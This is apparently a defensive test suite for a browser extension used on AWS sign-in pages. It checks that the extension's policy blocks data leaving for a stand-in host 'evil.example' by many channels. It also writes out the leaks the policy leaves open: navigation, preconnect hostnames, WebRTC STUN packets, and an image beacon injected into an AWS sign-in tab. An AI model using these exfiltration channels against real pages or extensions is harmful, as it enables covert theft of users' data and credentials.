import { createSocket } from 'node:dgram';
import { networkInterfaces } from 'node:os';
import type { Page, Worker } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Channels, evaluations, extensionChannels, pageChannels, tryChannels, tryInWorkerOf, workerChannels } from './channels.js';
import { type Elsewhere, startElsewhere } from './elsewhere.js';
import { optionsPage } from './firstRun.js';
import { type Product, startProduct } from './product.js';

interface Extension {
  readonly chrome: {
    readonly tabs: { create(tab: { url: string }): Promise<unknown>; query(query: object): Promise<{ id: number }[]> };
    readonly scripting: { executeScript(injection: object): Promise<unknown> };
  };
}

let product: Product;
let elsewhere: Elsewhere;
const evil = 'https://evil.example';

/** The channels by which something has arrived below a path, in order. */
function arrivedAt(path: string): string[] {
  const found = elsewhere.arrived.flatMap((request) => new RegExp(`evil\\.example/${path}/([^ ?]+)`).exec(request)?.[1] ?? []);
  return [...new Set(found.map(decodeURIComponent))].sort();
}
const namesOf = (...all: Channels[]): string[] => all.flatMap((channels) => Object.keys(channels)).sort();

beforeAll(async () => {
  elsewhere = await startElsewhere('evil.example');
  product = await startProduct({ elsewhere });
});
afterAll(async () => {
  await product?.close();
  await elsewhere?.close();
});

/** Waits until an ordinary page has sent by every channel, which takes as long as it takes. */
async function allArriveFromTheWeb(path: string): Promise<void> {
  const web = await product.context.newPage();
  await web.goto(`${evil}/start`);
  await tryChannels(web, pageChannels, `${evil}/${path}-page`);
  await tryInWorkerOf(web, workerChannels, `${evil}/${path}-worker`);
  await expect.poll(() => arrivedAt(`${path}-page`), { timeout: 20_000 }).toEqual(namesOf(pageChannels));
  await expect.poll(() => arrivedAt(`${path}-worker`), { timeout: 20_000 }).toEqual(namesOf(workerChannels));
  await web.close();
}

describe('a host that is not AWS’s', () => {
  it('hears from an ordinary web page by every channel', async () => {
    await allArriveFromTheWeb('before');
  });

  it('hears nothing from a page or the worker of the extension', async () => {
    const page = await optionsPage(product);
    await tryChannels(page, pageChannels, `${evil}/page`);
    await tryChannels(product.worker, { ...workerChannels, ...extensionChannels }, `${evil}/worker`);
    await allArriveFromTheWeb('meanwhile');
    expect(Object.keys(pageChannels).length).toBeGreaterThanOrEqual(12);
    expect(Object.keys(workerChannels).length).toBeGreaterThanOrEqual(8);
    expect(arrivedAt('page')).toEqual([]);
    expect(arrivedAt('worker')).toEqual([]);
  });
});

describe('text', () => {
  const ranOn = (place: Page | Worker): Promise<string[]> =>
    (place as Page).evaluate(() => [...(globalThis as unknown as { ran: string[] }).ran].sort());
  const inWorkers: Channels = Object.fromEntries(Object.entries(evaluations).filter(([, code]) => !code.includes('document')));

  it('runs as code on an ordinary web page, by every way that there is', async () => {
    const web = await product.context.newPage();
    await web.goto(`${evil}/start`);
    await tryChannels(web, evaluations, evil);
    await expect.poll(() => ranOn(web)).toEqual(namesOf(evaluations));
    await web.close();
  });

  it('runs as code neither on a page nor in the worker of the extension', async () => {
    const page = await optionsPage(product);
    await tryChannels(page, evaluations, evil);
    await tryChannels(product.worker, inWorkers, evil);
    await allArriveFromTheWeb('later');
    expect(await ranOn(page)).toEqual([]);
    expect(await ranOn(product.worker)).toEqual([]);
  });
});

/** What no content security policy stops, and SECURITY.md says so: should one of these fail, the document can promise more. */
describe('what the policy does not stop', () => {
  it('is a navigation, from a page or the worker', async () => {
    const page = await optionsPage(product);
    await page.evaluate((url) => void open(url), `${evil}/exception/open`);
    await product.worker.evaluate((url) => (globalThis as unknown as Extension).chrome.tabs.create({ url }), `${evil}/exception/tabs.create`);
    await expect.poll(() => arrivedAt('exception')).toEqual(['open', 'tabs.create']);
  });

  it('is connecting to a host, whose name alone may tell something', async () => {
    const page = await optionsPage(product);
    await page.evaluate((href) => document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href })), 'https://secret.evil.example');
    await expect.poll(() => elsewhere.connected).toContain('secret.evil.example');
    expect(elsewhere.arrived.join()).not.toContain('secret.evil.example');
  });

  it('is WebRTC', async () => {
    const packets: Buffer[] = [];
    const socket = createSocket('udp4').on('message', (packet) => packets.push(packet));
    await new Promise<void>((resolve) => { socket.bind(0, resolve); });
    const addresses = Object.values(networkInterfaces()).flatMap((all) => all ?? []).filter(({ family }) => family === 'IPv4');
    const page = await optionsPage(product);
    await page.evaluate(async (urls) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls }] });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
    }, addresses.map(({ address }) => `stun:${address}:${socket.address().port}`));
    await expect.poll(() => packets.length).toBeGreaterThan(0);
    socket.close();
  });

  it('is what a script does that the worker puts into a page of AWS', async () => {
    const page = await product.context.newPage();
    await page.goto('https://us-east-1.signin.aws.amazon.com/nothing');
    await product.worker.evaluate(async (url) => {
      const { chrome } = globalThis as unknown as Extension;
      const [tab] = await chrome.tabs.query({ url: 'https://us-east-1.signin.aws.amazon.com/*' });
      await chrome.scripting.executeScript({ target: { tabId: tab?.id }, args: [url], func: (to: string) => { new Image().src = to; } });
    }, `${evil}/injected/image`);
    await expect.poll(() => arrivedAt('injected')).toEqual(['image']);
  });
});
